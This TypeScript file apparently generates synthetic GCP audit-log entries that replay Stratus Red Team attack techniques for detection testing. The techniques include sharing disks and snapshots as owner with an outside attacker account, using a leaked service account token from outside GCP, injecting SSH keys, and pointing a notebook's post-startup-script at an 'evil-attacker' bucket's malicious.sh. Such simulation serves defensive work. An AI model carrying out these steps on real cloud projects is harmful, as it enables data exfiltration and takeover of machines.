import { type GcpContext, type GcpPlan, numericId, STRATUS_ATTACKER } from '../context.ts';
import { computeWrite, type GcpCall, gcpStep, operationResponse } from '../entry.ts';

const COMPUTE = 'compute.googleapis.com';

function instance(ctx: GcpContext, name: string, zone = ctx.zone) {
  const id = numericId(ctx, 19);
  return {
    name,
    id,
    zone,
    path: `projects/${ctx.project}/zones/${zone}/instances/${name}`,
    resource: { type: 'gce_instance', labels: { instance_id: id, project_id: ctx.project, zone } },
  };
}

type Instance = ReturnType<typeof instance>;

const instanceRead = (
  ctx: GcpContext,
  vm: Instance,
  method: string,
  permission: string,
  extra: Partial<GcpCall> = {},
) =>
  gcpStep(ctx, () => ({
    log: 'data_access',
    service: COMPUTE,
    method,
    resourceName: vm.path,
    resource: vm.resource,
    permissions: [{ permission }],
    ...extra,
  }));

/** Listing the zone's instances, then reading the target's full resource, startup-script included. */
const downloadInstanceMetadata: GcpPlan = (ctx) => {
  const vm = instance(ctx, `stratus-red-team-metadata-instance-${ctx.suffix}`);
  return [
    gcpStep(ctx, () => ({
      log: 'data_access',
      service: COMPUTE,
      method: 'v1.compute.instances.list',
      resourceName: `projects/${ctx.project}/zones/${ctx.zone}/instances`,
      resource: {
        type: 'gce_instance',
        labels: { instance_id: '', project_id: ctx.project, zone: ctx.zone },
      },
      permissions: [{ permission: 'compute.instances.list', resource: `projects/${ctx.project}` }],
    })),
    instanceRead(ctx, vm, 'v1.compute.instances.get', 'compute.instances.get'),
  ];
};

/** `roles/owner` on the resource for the outside account, through the resource's own IAM policy. */
function shareResource(
  kind: 'disks' | 'images' | 'snapshots',
  resourceType: string,
  idLabel: string,
): GcpPlan {
  return (ctx) => {
    const name = `stratus-red-team-victim-${kind.slice(0, -1)}`;
    const scoped = kind === 'disks' ? `zones/${ctx.zone}/` : 'global/';
    const labels: Record<string, string> = { [idLabel]: numericId(ctx, 19), project_id: ctx.project };
    if (kind === 'disks') labels.zone = ctx.zone;
    return [
      gcpStep(ctx, () => ({
        log: 'activity',
        service: COMPUTE,
        method: `v1.compute.${kind}.setIamPolicy`,
        resourceName: `projects/${ctx.project}/${scoped}${kind}/${name}`,
        resource: { type: resourceType, labels },
        permissions: [{ permission: `compute.${kind}.setIamPolicy` }],
        request: {
          '@type': `type.googleapis.com/compute.${kind}.setIamPolicy`,
          policy: {
            bindings: [{ members: [`user:${STRATUS_ATTACKER}`], role: 'roles/owner' }],
            version: '3',
          },
        },
      })),
    ];
  };
}

function insertInstance(ctx: GcpContext, vm: Instance, machineType: string, extra: Record<string, unknown>) {
  return computeWrite(ctx, (operation) => ({
    log: 'activity',
    service: COMPUTE,
    method: 'v1.compute.instances.insert',
    resourceName: vm.path,
    resource: vm.resource,
    permissions: [
      { permission: 'compute.instances.create' },
      {
        permission: 'compute.disks.create',
        resource: `projects/${ctx.project}/zones/${vm.zone}/disks/${vm.name}`,
      },
      {
        permission: 'compute.subnetworks.use',
        resource: `projects/${ctx.project}/regions/${vm.zone.slice(0, -2)}/subnetworks/default`,
      },
    ],
    request: {
      '@type': 'type.googleapis.com/compute.instances.insert',
      disks: [
        {
          autoDelete: true,
          boot: true,
          initializeParams: { sourceImage: 'projects/debian-cloud/global/images/family/debian-12' },
        },
      ],
      machineType: `zones/${vm.zone}/machineTypes/${machineType}`,
      name: vm.name,
      networkInterfaces: [{ network: `projects/${ctx.project}/global/networks/default` }],
      ...extra,
    },
    response: operationResponse(ctx, operation, 'insert', {
      link: vm.path,
      id: vm.id,
      scope: `zones/${vm.zone}`,
    }),
  }));
}

/** A T4 GPU requires stopping on host maintenance; the replay assumes the project has GPU quota. */
const createGpuVm: GcpPlan = (ctx) =>
  insertInstance(ctx, instance(ctx, `stratus-red-team-gpu-vm-${ctx.suffix}`), 'n1-standard-4', {
    guestAccelerators: [
      { acceleratorCount: 1, acceleratorType: `zones/${ctx.zone}/acceleratorTypes/nvidia-tesla-t4` },
    ],
    scheduling: { automaticRestart: true, onHostMaintenance: 'TERMINATE' },
  });

const ZONES = [
  'us-central1-a',
  'us-east1-b',
  'us-west1-a',
  'europe-west1-b',
  'asia-east1-a',
  'southamerica-east1-a',
];

/** Six inserts in parallel: the first entries arrive together, the operations end later. */
const instancesInZones: GcpPlan = (ctx) => {
  const writes = ZONES.map((zone, i) =>
    insertInstance(ctx, instance(ctx, `stratus-red-team-vm-${ctx.suffix}-${i}`, zone), 'e2-micro', {}),
  );
  const firsts = writes.map((w) => ({ ...w[0]!, gapMs: [50, 300] as const }));
  return [...firsts, ...writes.map((w) => w[1]!)];
};

/**
 * The default compute service account's token, leaked to the serial port at boot, used from
 * the operator's machine: its calls come from outside Google Cloud.
 */
const useComputeSaOutsideGcp: GcpPlan = (ctx) => {
  const vm = instance(ctx, `stratus-red-team-compute-sa-instance-${ctx.suffix}`);
  const stolen = `${ctx.projectNumber}-compute@developer.gserviceaccount.com`;
  return [
    instanceRead(
      ctx,
      vm,
      'v1.compute.instances.getSerialPortOutput',
      'compute.instances.getSerialPortOutput',
    ),
    instanceRead(ctx, vm, 'v1.compute.instances.get', 'compute.instances.get', { principal: stolen }),
    ...computeWrite(ctx, (operation) => ({
      log: 'activity',
      service: COMPUTE,
      method: 'v1.compute.instances.setLabels',
      resourceName: vm.path,
      resource: vm.resource,
      principal: stolen,
      permissions: [{ permission: 'compute.instances.setLabels' }],
      request: {
        '@type': 'type.googleapis.com/compute.instances.setLabels',
        labelFingerprint: ctx.rng.base64(11),
        labels: [{ key: 'stratus-red-team', value: 'used-from-outside-gcp' }],
      },
      response: operationResponse(
        ctx,
        operation,
        'setLabels',
        { link: vm.path, id: vm.id, scope: `zones/${vm.zone}` },
        stolen,
      ),
    })),
  ];
};

/** Compute logs which metadata keys changed (`ssh-keys`), never their values. */
const addSshKey: GcpPlan = (ctx) => {
  const vm = instance(ctx, `stratus-red-team-ssh-instance-${ctx.suffix}`);
  return [
    instanceRead(ctx, vm, 'v1.compute.instances.get', 'compute.instances.get'),
    ...computeWrite(ctx, (operation) => ({
      log: 'activity',
      service: COMPUTE,
      method: 'v1.compute.instances.setMetadata',
      resourceName: vm.path,
      resource: vm.resource,
      permissions: [{ permission: 'compute.instances.setMetadata' }],
      metadata: { instanceMetadataDelta: { addedMetadataKeys: ['ssh-keys'] } },
      request: { '@type': 'type.googleapis.com/compute.instances.setMetadata' },
      response: operationResponse(ctx, operation, 'setMetadata', {
        link: vm.path,
        id: vm.id,
        scope: `zones/${vm.zone}`,
      }),
    })),
  ];
};

/** Vertex AI Workbench (Notebooks v2, gRPC): the patch sets `post-startup-script` to a bucket the attacker owns. */
const vertexNotebookStartup: GcpPlan = (ctx) => {
  const name = `projects/${ctx.project}/locations/${ctx.zone}/instances/stratus-red-team-workbench-${ctx.suffix}`;
  const resource = {
    type: 'audited_resource',
    labels: { method: '', project_id: ctx.project, service: 'notebooks.googleapis.com' },
  };
  const call = (
    method: string,
    log: 'activity' | 'data_access',
    permission: string,
    request?: Record<string, unknown>,
  ): GcpCall => ({
    log,
    service: 'notebooks.googleapis.com',
    method,
    resourceName: name,
    resource: { ...resource, labels: { ...resource.labels, method } },
    permissions: [{ permission }],
    userAgent: ctx.grpcAgent,
    ...(request ? { request } : {}),
  });
  return [
    gcpStep(ctx, () =>
      call('google.cloud.notebooks.v2.NotebookService.GetInstance', 'data_access', 'notebooks.instances.get'),
    ),
    gcpStep(ctx, () =>
      call(
        'google.cloud.notebooks.v2.NotebookService.UpdateInstance',
        'activity',
        'notebooks.instances.update',
        {
          '@type': 'type.googleapis.com/google.cloud.notebooks.v2.UpdateInstanceRequest',
          instance: {
            gceSetup: {
              metadata: {
                'post-startup-script': `gs://evil-attacker-${ctx.project}-${ctx.rng.lowerAlnum(6)}/malicious.sh`,
              },
            },
            name,
          },
          updateMask: 'gce_setup.metadata',
        },
      ),
    ),
    gcpStep(
      ctx,
      () => ({
        ...call('google.longrunning.Operations.GetOperation', 'data_access', 'notebooks.operations.get'),
        resourceName: `projects/${ctx.project}/locations/${ctx.zone}/operations/operation-${ctx.clock.now()}-${ctx.rng.hex(13)}`,
      }),
      3,
    ),
  ];
};

export const gcpComputePlans: Readonly<Record<string, GcpPlan>> = {
  'gcp.discovery.download-instance-metadata': downloadInstanceMetadata,
  'gcp.execution.modify-vertex-notebook-startup': vertexNotebookStartup,
  'gcp.exfiltration.share-compute-disk': shareResource('disks', 'gce_disk', 'disk_id'),
  'gcp.exfiltration.share-compute-image': shareResource('images', 'gce_image', 'image_id'),
  'gcp.exfiltration.share-compute-snapshot': shareResource('snapshots', 'gce_snapshot', 'snapshot_id'),
  'gcp.impact.create-gpu-vm': createGpuVm,
  'gcp.impact.create-instances-in-multiple-zones': instancesInZones,
  'gcp.initial-access.use-compute-sa-outside-gcp': useComputeSaOutsideGcp,
  'gcp.lateral-movement.add-sshkey-instance-metadata': addSshKey,
};
